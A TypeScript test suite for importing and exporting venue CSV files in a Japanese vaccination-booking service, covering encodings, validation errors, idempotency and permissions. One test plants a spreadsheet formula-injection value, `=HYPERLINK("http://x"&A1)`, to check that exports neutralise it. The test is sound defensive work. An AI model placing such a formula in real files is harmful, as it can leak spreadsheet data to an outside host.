import * as contract from '@madoguchi/contracts';
import { cp932Table, encodeCp932, newId } from '@madoguchi/kernel';
import type { RunningService } from '@madoguchi/service';
import type { TestWorld } from '@madoguchi/testing/test-world';
import { testWorld } from '@madoguchi/testing/test-world';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { seedDemoCatalogue } from '../seed-demo/seed-demo.ts';
import { programme } from '../service.ts';

let world: TestWorld;
let service: RunningService;
let actorToken: string;

beforeAll(async () => {
  world = await testWorld();
  service = await world.start(programme);
  actorToken = (await world.actor('operations-manager')).token;
  await seedDemoCatalogue(service.runtime);
});
afterAll(() => world.stop());

const HEADER =
  '会場コード,名称,英語名称,町名,住所,種別,月,祝日と年末年始,休業日,ワクチン,開始日,最終日,備考';
const row = (code: string, changes: { name?: string; kind?: string; products?: string } = {}) =>
  [
    code,
    changes.name ?? '葛西小学校',
    'Kasai School',
    '中葛西',
    '東京都江戸川区中葛西１丁目',
    changes.kind ?? '集団',
    '09:00-12:00',
    '休',
    '2026-12-28',
    changes.products ?? 'MDG-XA',
    '2026-10-01',
    '2027-03-31',
    'x',
  ].join(',');
const importing = (bytes: Uint8Array | string, more: { dryRun?: boolean; key?: string } = {}) =>
  world.call(
    contract.importVenues,
    {
      fileBase64: Buffer.from(bytes).toString('base64'),
      dryRun: more.dryRun ?? false,
    },
    { actorToken, idempotencyKey: more.key ?? newId() },
  );
const file = (...rows: string[]) => [HEADER, ...rows].join('\r\n');
const exported = async (encoding: 'cp932' | 'utf-8') => {
  const answer = await world.call(contract.exportVenues, { encoding }, { actorToken });
  return answer.ok ? Buffer.from(answer.value.fileBase64, 'base64') : answer.refusal;
};
const version = async () => {
  const [found] = await world.sql<{ version: number }>(
    'programme',
    'SELECT version FROM catalogue',
  );
  return found?.version;
};

describe('a file of venues', () => {
  it('is taken in either encoding, once, and told to the neighbours once', async () => {
    const text = file(row('1312300100'), row('1312300118', { name: '髙砂会館' }));
    const { bytes, missing } = encodeCp932(text, cp932Table());
    expect(missing).toEqual([]);
    const before = (await version()) ?? 0;
    expect(await importing(bytes, { dryRun: true })).toMatchObject({
      ok: true,
      value: {
        encoding: 'cp932',
        rows: 2,
        added: 2,
        refused: [],
        ignoredColumns: ['備考'],
        // Nobody can be booked at a venue that is new.
        wouldChange: { version: before, venues: [] },
      },
    });
    expect(await version()).toBe(before);
    const key = newId();
    expect(await importing(bytes, { key })).toMatchObject({ value: { added: 2 } });
    expect(await importing(bytes, { key })).toMatchObject({ value: { added: 2 } });
    expect(await importing(`\ufeff${text}`)).toMatchObject({
      value: { encoding: 'utf-8', added: 0, changed: 0, unchanged: 2 },
    });
    expect(await version()).toBe(before + 1);
    const renamed = file(
      row('1312300100', { name: '葛西中学校' }),
      row('1312300118', { name: '髙砂会館' }),
    );
    expect(await importing(renamed, { dryRun: true })).toMatchObject({
      value: {
        changed: 1,
        wouldChange: { version: before + 1, venues: [{ name: { ja: '葛西中学校' } }] },
      },
    });
    const [told] = await world.sql<{ payload: contract.Catalogue }>(
      'programme',
      'SELECT payload FROM relay.outbox ORDER BY position DESC LIMIT 1',
    );
    expect(told?.payload.venues.map((one) => one.venueCode)).toContain('1312300118');
    expect(told?.payload.venues).toHaveLength(6);
  });

  it('is taken whole or not at all, with every fault by line and column', async () => {
    const before = await version();
    const answer = await importing(
      file(
        row('1312300200'),
        row('123', { kind: '大きい' }),
        row('1312300200'),
        row('1312300218', { products: 'NOWHERE' }),
        '1312300226,short',
      ),
    );
    expect(answer).toMatchObject({
      ok: true,
      value: {
        rows: 5,
        added: 0,
        refused: [
          { line: 3, column: '種別' },
          { line: 4, column: '会場コード', reason: '2 行目と同じ会場です' },
          { line: 5, column: 'ワクチン' },
          { line: 6, column: '' },
        ],
      },
    });
    expect(await version()).toBe(before);
    const [audited] = await world.sql<{ outcome: string }>(
      'programme',
      `SELECT entry->>'outcome' AS outcome FROM relay.audit_entry
       WHERE entry->>'operation' = 'programme.import-venues' ORDER BY seq DESC LIMIT 1`,
    );
    expect(audited).toEqual({ outcome: 'refused' });
  });

  it('that is no such file is refused as one', async () => {
    const { bytes: short } = encodeCp932('会場コード,名称\r\n1,2', cp932Table());
    const random = Buffer.from(Array.from({ length: 4000 }, (_, place) => (place * 97) % 256));
    for (const bytes of ['', `${HEADER}\r\n"1`, short, random, `${HEADER},名称\r\n`])
      expect(await importing(bytes)).toMatchObject({
        ok: false,
        refusal: { code: 'import_refused' },
      });
    expect(
      await world.call(
        contract.importVenues,
        { fileBase64: 'no base64!', dryRun: false },
        { actorToken, idempotencyKey: newId() },
      ),
    ).toMatchObject({ refusal: { code: 'malformed_request' } });
  });

  it('goes out as it comes in, and never as a formula', async () => {
    const bad = row('1312300300', { name: `=HYPERLINK("http://x"&A1)` }).replace(
      /=HYPERLINK\([^)]*\)/,
      (cell) => `"${cell.replaceAll('"', '""')}"`,
    );
    expect(await importing(file(bad))).toMatchObject({ value: { added: 1 } });
    for (const encoding of ['cp932', 'utf-8'] as const) {
      const bytes = await exported(encoding);
      if (!(bytes instanceof Buffer)) throw new Error('refused');
      const text = new TextDecoder(encoding === 'cp932' ? 'shift_jis' : 'utf-8').decode(bytes);
      expect(text).toContain(`"'=HYPERLINK(`);
      expect(text.split(/[,\n]/u).filter((cell) => /^"?[=+\-@]/u.test(cell))).toEqual([]);
      expect(await importing(bytes)).toMatchObject({
        ok: true,
        value: { rows: 7, added: 0, changed: 0, unchanged: 7, refused: [] },
      });
    }
  });

  it('with characters that CP932 has not goes out in UTF-8 only', async () => {
    expect(await importing(file(row('1312300400', { name: '𠮷田医院' })))).toMatchObject({
      value: { added: 1 },
    });
    expect(await exported('cp932')).toMatchObject({
      code: 'characters_not_encodable',
      details: { characters: ['𠮷'] },
    });
    const bytes = await exported('utf-8');
    expect(bytes instanceof Buffer && bytes.toString('utf8')).toContain('𠮷田医院');
  });

  it('is for those who administer', async () => {
    const operator = { actorToken: (await world.actor('senior-operator')).token };
    const asked = { fileBase64: '', dryRun: true };
    expect(
      await world.call(contract.importVenues, asked, { ...operator, idempotencyKey: newId() }),
    ).toMatchObject({ refusal: { code: 'not_allowed' } });
    expect(await world.call(contract.exportVenues, {}, operator)).toMatchObject({
      refusal: { code: 'not_allowed' },
    });
  });
});
